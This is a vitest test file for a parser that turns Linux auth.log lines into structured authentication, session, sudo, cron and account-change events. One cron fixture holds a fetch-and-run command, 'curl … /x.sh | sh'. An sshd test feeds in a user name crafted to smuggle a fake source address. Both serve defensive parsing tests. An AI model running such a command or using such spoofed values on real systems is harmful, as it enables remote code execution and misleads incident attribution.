// What each kind of auth.log line means, checked field by field: sshd, PAM, sudo, su, shadow-utils account
// changes and the legacy login services. Lines follow the wording the daemons really log (several taken in
// shape from the loghub OpenSSH and Linux samples, with documentation addresses).

import { describe, expect, it } from 'vitest'
import type { EventFieldValues } from '../../../../src-main/common/event'
import { describeAuthLine } from '../../../../src-main/core/ingest/parsers/authSemantics'
import type { ExtraFields } from '../../../../src-main/core/ingest/parsers/results'

interface Description {
  isAuthLine: boolean
  fields: EventFieldValues
  extra: ExtraFields
}

function describeLine(program: string | undefined, message: string, pamModule?: string): Description {
  const fields: EventFieldValues = {}
  const extra: ExtraFields = {}
  const isAuthLine = describeAuthLine(program, pamModule, message, { fields, extra })
  return { isAuthLine, fields, extra }
}

describe('sshd', () => {
  it('attributes a login to the address sshd appended, whatever the attacker put in the user name', () => {
    const spoofing = 'x from 10.9.9.9 port 22'
    const cases = [
      `Failed password for invalid user ${spoofing} from 203.0.113.66 port 40000 ssh2`,
      `Failed password for ${spoofing} from 203.0.113.66 port 40000 ssh2`,
      `Invalid user ${spoofing} from 203.0.113.66 port 40000`,
      `error: maximum authentication attempts exceeded for invalid user ${spoofing} from 203.0.113.66 port 40000 ssh2 [preauth]`,
      `Disconnecting invalid user ${spoofing} 203.0.113.66 port 40000: Too many authentication failures [preauth]`,
      `Disconnected from invalid user ${spoofing} 203.0.113.66 port 40000 [preauth]`
    ]
    for (const message of cases) {
      const { fields } = describeLine('sshd', message)
      expect(fields['source.ip'], message).toBe('203.0.113.66')
      expect(fields['user.name'], message).toBe(spoofing)
    }
    const publickey = describeLine(
      'sshd',
      'Accepted publickey for alice from 192.0.2.1 port 52311 ssh2: RSA SHA256:abc'
    )
    expect(publickey.fields).toMatchObject({
      'user.name': 'alice',
      'source.ip': '192.0.2.1',
      'event.outcome': 'success'
    })
  })

  it('reads failed and accepted logins with user, source and method', () => {
    expect(describeLine('sshd', 'Failed password for root from 203.0.113.4 port 42393 ssh2')).toEqual({
      isAuthLine: true,
      fields: {
        'event.category': 'authentication',
        'event.action': 'ssh_login',
        'event.outcome': 'failure',
        'user.name': 'root',
        'source.ip': '203.0.113.4',
        'source.port': 42393
      },
      extra: { 'system.auth.ssh.method': 'password' }
    })
    const invalid = describeLine(
      'sshd',
      'Failed password for invalid user webmaster from 203.0.113.5 port 38926 ssh2'
    )
    expect(invalid.fields['user.name']).toBe('webmaster')
    expect(invalid.fields['event.outcome']).toBe('failure')
    const accepted = describeLine(
      'sshd',
      'Accepted publickey for alice from 2001:db8::1 port 50022 ssh2: ED25519 SHA256:abcdefghijklmnop'
    )
    expect(accepted.fields).toMatchObject({
      'event.action': 'ssh_login',
      'event.outcome': 'success',
      'user.name': 'alice',
      'source.ip': '2001:db8::1'
    })
    expect(accepted.extra['system.auth.ssh.method']).toBe('publickey')
  })

  it('keeps odd user names as logged and leaves an empty one unset', () => {
    expect(
      describeLine('sshd', 'Failed password for invalid user  0101 from 5.188.10.180 port 36279 ssh2').fields[
        'user.name'
      ]
    ).toBe(' 0101')
    const empty = describeLine('sshd', 'Failed password for invalid user from 192.0.2.7 port 22 ssh2')
    expect(empty.fields['user.name']).toBeUndefined()
    expect(empty.fields['source.ip']).toBe('192.0.2.7')
  })

  it('reads invalid users and too many attempts', () => {
    expect(describeLine('sshd', 'Invalid user oracle from 192.0.2.8 port 51515').fields).toEqual({
      'event.category': 'authentication',
      'event.action': 'ssh_invalid_user',
      'event.outcome': 'failure',
      'user.name': 'oracle',
      'source.ip': '192.0.2.8',
      'source.port': 51515
    })
    expect(
      describeLine(
        'sshd',
        'error: maximum authentication attempts exceeded for invalid user admin from 192.0.2.9 port 4000 ssh2 [preauth]'
      ).fields
    ).toMatchObject({
      'event.action': 'ssh_max_auth_attempts',
      'user.name': 'admin',
      'source.ip': '192.0.2.9'
    })
    expect(
      describeLine('sshd', 'Disconnecting: Too many authentication failures for root [preauth]').fields
    ).toMatchObject({ 'event.action': 'ssh_max_auth_attempts', 'user.name': 'root' })
  })

  it('reads both POSSIBLE BREAK-IN ATTEMPT wordings, keeping the name in source.domain', () => {
    const reverse = describeLine(
      'sshd',
      'reverse mapping checking getaddrinfo for ns.example.com [198.51.100.186] failed - POSSIBLE BREAK-IN ATTEMPT!'
    )
    expect(reverse.fields).toEqual({
      'event.category': 'network',
      'event.action': 'ssh_reverse_dns_mismatch',
      'source.ip': '198.51.100.186',
      'source.domain': 'ns.example.com'
    })
    const maps = describeLine(
      'sshd',
      'Address 198.51.100.187 maps to host.example.com, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!'
    )
    expect(maps.fields['source.ip']).toBe('198.51.100.187')
    expect(maps.fields['source.domain']).toBe('host.example.com')
  })

  it('reads disconnects and closed connections in old and new formats, IPv6 included', () => {
    expect(
      describeLine('sshd', 'Received disconnect from 52.80.34.196: 11: Bye Bye [preauth]').fields
    ).toEqual({
      'event.category': 'network',
      'event.action': 'ssh_disconnect',
      'source.ip': '52.80.34.196'
    })
    expect(
      describeLine('sshd', 'Received disconnect from 2001:db8::5 port 52106:11: Bye Bye [preauth]').fields
    ).toMatchObject({ 'source.ip': '2001:db8::5', 'source.port': 52106 })
    expect(
      describeLine('sshd', 'error: Received disconnect from 2001:db8::6: 3: Auth fail [preauth]').fields[
        'source.ip'
      ]
    ).toBe('2001:db8::6')
    expect(describeLine('sshd', 'Connection closed by 192.0.2.10 [preauth]').fields).toEqual({
      'event.category': 'network',
      'event.action': 'ssh_connection_closed',
      'source.ip': '192.0.2.10'
    })
    expect(
      describeLine('sshd', 'Connection closed by authenticating user root 192.0.2.11 port 4141 [preauth]')
        .fields
    ).toMatchObject({ 'user.name': 'root', 'source.ip': '192.0.2.11', 'source.port': 4141 })
    expect(
      describeLine('sshd', 'Disconnected from invalid user guest 192.0.2.12 port 999 [preauth]').fields
    ).toMatchObject({
      'event.action': 'ssh_disconnect',
      'user.name': 'guest'
    })
    expect(
      describeLine('sshd', 'Did not receive identification string from 192.0.2.13').fields['event.action']
    ).toBe('ssh_no_identification')
  })

  it('gives lines that repeat an earlier attempt no countable action', () => {
    const preauth = describeLine('sshd', 'input_userauth_request: invalid user webmaster [preauth]')
    expect(preauth).toEqual({ isAuthLine: true, fields: { 'user.name': 'webmaster' }, extra: {} })
    const summary = describeLine(
      'sshd',
      'PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.14  user=root'
    )
    expect(summary.fields).toEqual({ 'source.ip': '192.0.2.14', 'user.name': 'root' })
    expect(describeLine('sshd', 'Server listening on 0.0.0.0 port 22.')).toEqual({
      isAuthLine: true,
      fields: {},
      extra: {}
    })
  })
})

describe('PAM', () => {
  it('reads authentication failures; a host name rhost goes to source.domain, never source.ip', () => {
    const byHost = describeLine(
      'sshd',
      'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=n219076184117.netvigator.com  user=root'
    )
    expect(byHost.fields).toEqual({
      'event.category': 'authentication',
      'event.action': 'pam_auth_failure',
      'event.outcome': 'failure',
      'user.name': 'root',
      'source.domain': 'n219076184117.netvigator.com'
    })
    const ftp = describeLine(
      'vsftpd',
      'pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=bob rhost=::ffff:192.0.2.15 user=bob'
    )
    expect(ftp.fields).toMatchObject({
      'event.action': 'pam_auth_failure',
      'user.name': 'bob',
      'source.ip': '192.0.2.15'
    })
  })

  it('reads the old tag style (ftpd(pam_unix), sshd(pam_unix)) the same way', () => {
    const old = describeLine(
      'ftpd',
      'authentication failure; logname= uid=0 euid=0 tty=NODEVftp ruser= rhost=192.0.2.16  user=ftpuser',
      'pam_unix'
    )
    expect(old.fields).toMatchObject({
      'event.action': 'pam_auth_failure',
      'user.name': 'ftpuser',
      'source.ip': '192.0.2.16'
    })
  })

  it('reads sessions: the session user is user.name, except for su and sudo where it is the target', () => {
    expect(
      describeLine('sshd', 'pam_unix(sshd:session): session opened for user fztu by (uid=0)').fields
    ).toEqual({
      'event.category': 'session',
      'event.action': 'session_opened',
      'event.outcome': 'success',
      'user.name': 'fztu'
    })
    expect(
      describeLine('sudo', 'pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)')
        .fields
    ).toMatchObject({ 'event.action': 'session_opened', 'user.name': 'alice', 'user.target.name': 'root' })
    expect(describeLine('CRON', 'pam_unix(cron:session): session closed for user root').fields).toEqual({
      'event.category': 'session',
      'event.action': 'session_closed',
      'user.name': 'root'
    })
  })

  it('reads password changes', () => {
    expect(describeLine('passwd', 'pam_unix(passwd:chauthtok): password changed for backup2').fields).toEqual(
      {
        'event.category': 'iam',
        'event.action': 'password_changed',
        'event.outcome': 'success',
        'user.name': 'backup2'
      }
    )
  })
})

describe('sudo', () => {
  it('reads a command with invoker, target user, command line and working directory', () => {
    expect(
      describeLine('sudo', '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u')
    ).toEqual({
      isAuthLine: true,
      fields: {
        'event.category': 'process',
        'event.action': 'sudo_command',
        'event.outcome': 'success',
        'user.name': 'alice',
        'user.target.name': 'root',
        'process.command_line': '/usr/bin/id -u'
      },
      extra: {
        'process.working_directory': '/home/alice',
        'system.auth.sudo.tty': 'pts/0'
      }
    })
  })

  it('reads refusals with their reason, and a command containing the separator', () => {
    const attempts = describeLine(
      'sudo',
      'bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c "a ; b"'
    )
    expect(attempts.fields).toMatchObject({
      'event.category': 'authentication',
      'event.action': 'sudo_command',
      'event.outcome': 'failure',
      'user.name': 'bob'
    })
    expect(attempts.fields['event.reason']).toBe('3 incorrect password attempts')
    expect(attempts.fields['process.command_line']).toBe('/bin/sh -c "a ; b"')
    const notAllowed = describeLine(
      'sudo',
      'eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash'
    )
    expect(notAllowed.fields['event.outcome']).toBe('failure')
    expect(notAllowed.fields['event.reason']).toBe('user NOT in sudoers')
  })

  it('reads pam_unix(sudo:auth) failures as the invoking user failing to authenticate', () => {
    expect(
      describeLine(
        'sudo',
        'pam_unix(sudo:auth): authentication failure; logname=bob uid=1001 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob'
      ).fields
    ).toEqual({
      'event.category': 'authentication',
      'event.action': 'pam_auth_failure',
      'event.outcome': 'failure',
      'user.name': 'bob'
    })
  })

  it('leaves other sudo messages without an action', () => {
    expect(describeLine('sudo', 'pam_unix(sudo:auth): conversation failed').fields).toEqual({})
    expect(describeLine('sudo', 'unable to resolve host bastion').fields).toEqual({})
  })
})

describe('su', () => {
  const suFields = (outcome: string, user: string | undefined, target: string): EventFieldValues => {
    const fields: EventFieldValues = {
      'event.category': 'authentication',
      'event.action': 'su',
      'event.outcome': outcome
    }
    if (user !== undefined) fields['user.name'] = user
    fields['user.target.name'] = target
    return fields
  }

  it('reads every su wording into invoker and target', () => {
    expect(
      describeLine(
        'su',
        'pam_unix(su:auth): authentication failure; logname=bob uid=1001 euid=0 tty=pts/1 ruser=bob rhost=  user=root'
      ).fields
    ).toEqual(suFields('failure', 'bob', 'root'))
    expect(describeLine('su', 'Successful su for postgres by alice').fields).toEqual(
      suFields('success', 'alice', 'postgres')
    )
    expect(describeLine('su', 'FAILED SU (to root) bob on pts/1').fields).toEqual(
      suFields('failure', 'bob', 'root')
    )
    expect(describeLine('su', '(to root) alice on pts/3').fields).toEqual(
      suFields('success', 'alice', 'root')
    )
    expect(describeLine('su', '+ pts/0 alice:root').fields).toEqual(suFields('success', 'alice', 'root'))
    expect(describeLine('su', '- pts/0 mallory:root').fields).toEqual(suFields('failure', 'mallory', 'root'))
    expect(
      describeLine('su', 'pam_unix(su:session): session opened for user postgres(uid=112) by alice(uid=1000)')
        .fields
    ).toEqual(suFields('success', 'alice', 'postgres'))
  })

  it('keeps the uid of an invoker that has no name', () => {
    const session = describeLine('su', 'session opened for user news by (uid=0)', 'pam_unix')
    expect(session.fields).toEqual(suFields('success', undefined, 'news'))
    expect(session.extra).toEqual({ 'user.id': '0' })
  })
})

describe('cron', () => {
  it('reads a job start as a command run as the crontab owner, without cron layout spaces', () => {
    expect(describeLine('CRON', '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)')).toEqual({
      isAuthLine: false,
      fields: {
        'event.category': 'process',
        'event.action': 'cron_command',
        'user.name': 'root',
        'process.command_line': 'cd / && run-parts --report /etc/cron.hourly'
      },
      extra: {}
    })
    expect(
      describeLine('crond', '(backup2) CMD (curl -s http://203.0.113.50/x.sh | sh) (extra)').fields[
        'process.command_line'
      ]
    ).toBe('curl -s http://203.0.113.50/x.sh | sh) (extra')
    expect(describeLine('CROND', '(alice) CMD (/home/alice/bin/sync.sh)').fields['user.name']).toBe('alice')
  })

  it('reads crontab replacements and deletions, and leaves cron housekeeping alone', () => {
    expect(describeLine('crontab', '(root) DELETE (bob)')).toEqual({
      isAuthLine: false,
      fields: {
        'event.category': 'configuration',
        'event.action': 'crontab_modified',
        'event.outcome': 'success',
        'user.name': 'root',
        'user.target.name': 'bob'
      },
      extra: { 'system.cron.operation': 'DELETE' }
    })
    expect(describeLine('cron', '(CRON) INFO (pidfile fd = 3)').fields).toEqual({})
    expect(describeLine('CRON', '(root) RELOAD (crontabs/root)').fields).toEqual({})
    expect(describeLine('crontab', '(alice) BEGIN EDIT (alice)').fields).toEqual({})
    expect(describeLine('CRON', 'pam_unix(cron:session): session opened for user root by (uid=0)')).toEqual({
      isAuthLine: true,
      fields: {
        'event.category': 'session',
        'event.action': 'session_opened',
        'event.outcome': 'success',
        'user.name': 'root'
      },
      extra: {}
    })
  })
})

describe('account changes', () => {
  it('reads useradd, groupadd, usermod, userdel and passwd lines as IAM events', () => {
    const cases: [string, string, EventFieldValues, ExtraFields][] = [
      [
        'useradd',
        'new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0',
        { 'event.action': 'user_created', 'user.name': 'backup2' },
        { 'user.id': '1002' }
      ],
      [
        'useradd',
        'new group: name=devs, GID=1003',
        { 'event.action': 'group_created' },
        { 'group.name': 'devs', 'group.id': '1003' }
      ],
      [
        'usermod',
        "add 'backup2' to group 'sudo'",
        { 'event.action': 'user_added_to_group', 'user.name': 'backup2' },
        { 'group.name': 'sudo' }
      ],
      [
        'gpasswd',
        "delete 'bob' from group 'wheel'",
        { 'event.action': 'user_removed_from_group', 'user.name': 'bob' },
        { 'group.name': 'wheel' }
      ],
      [
        'usermod',
        "change user 'bob' shell from '/bin/sh' to '/bin/bash'",
        { 'event.action': 'user_modified', 'user.name': 'bob' },
        {}
      ],
      [
        'usermod',
        "change user name 'bob' to 'robert'",
        { 'event.action': 'user_modified', 'user.name': 'bob' },
        { 'user.changes.name': 'robert' }
      ],
      [
        'usermod',
        "lock user 'olduser' password",
        { 'event.action': 'user_locked', 'user.name': 'olduser' },
        {}
      ],
      [
        'usermod',
        "unlock user 'olduser' password",
        { 'event.action': 'user_unlocked', 'user.name': 'olduser' },
        {}
      ],
      ['userdel', "delete user 'olduser'", { 'event.action': 'user_deleted', 'user.name': 'olduser' }, {}],
      ['groupdel', "group 'devs' removed", { 'event.action': 'group_deleted' }, { 'group.name': 'devs' }],
      [
        'passwd',
        "password for 'bob' changed by 'root'",
        { 'event.action': 'password_changed', 'user.name': 'bob' },
        {}
      ]
    ]
    for (const [program, message, fields, extra] of cases) {
      const description = describeLine(program, message)
      expect(description.isAuthLine, message).toBe(true)
      expect(description.fields, message).toEqual({
        'event.category': 'iam',
        'event.outcome': 'success',
        ...fields
      })
      expect(description.extra, message).toEqual(extra)
    }
    expect(describeLine('useradd', "failed adding user 'x', data deleted").fields['event.outcome']).toBe(
      'failure'
    )
    expect(describeLine('usermod', "add 'backup2' to shadow group 'sudo'").fields).toEqual({})
  })
})

describe('legacy login services', () => {
  it('reads klogind, ftpd and login lines from the loghub Linux sample shapes', () => {
    const klogin = describeLine(
      'klogind',
      'Authentication failed from 163.27.187.39 (163.27.187.39): Permission denied in replay cache code '
    )
    expect(klogin.fields).toEqual({
      'event.category': 'authentication',
      'event.action': 'kerberos_rlogin',
      'event.outcome': 'failure',
      'source.ip': '163.27.187.39',
      'event.reason': 'Permission denied in replay cache code'
    })
    const ftp = describeLine(
      'ftpd',
      'connection from 82.68.222.194 (82-68-222-194.dsl.example.co.uk) at Sun Jul 17 21:23:20 2005 '
    )
    expect(ftp.fields).toEqual({
      'event.category': 'network',
      'event.action': 'ftp_connection',
      'source.ip': '82.68.222.194',
      'source.domain': '82-68-222-194.dsl.example.co.uk'
    })
    expect(describeLine('ftpd', 'ANONYMOUS FTP LOGIN FROM 84.102.20.2,  (anonymous)').fields).toMatchObject({
      'event.action': 'ftp_login',
      'event.outcome': 'success',
      'user.name': 'anonymous',
      'source.ip': '84.102.20.2'
    })
    expect(
      describeLine('login', "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure").fields
    ).toMatchObject({
      'event.action': 'login',
      'event.outcome': 'failure',
      'user.name': 'root'
    })
    expect(describeLine('login', 'ROOT LOGIN ON tty2').fields).toMatchObject({
      'event.action': 'login',
      'user.name': 'root'
    })
  })
})

describe('lines that are not auth lines', () => {
  it('leaves other programs alone and says so', () => {
    expect(describeLine('kernel', 'Linux version 2.6.5')).toEqual({
      isAuthLine: false,
      fields: {},
      extra: {}
    })
    expect(describeLine(undefined, 'syslogd 1.4.1: restart.')).toEqual({
      isAuthLine: false,
      fields: {},
      extra: {}
    })
    expect(describeLine('/usr/sbin/sshd', 'Invalid user x from 192.0.2.1').fields['event.action']).toBe(
      'ssh_invalid_user'
    )
  })
})
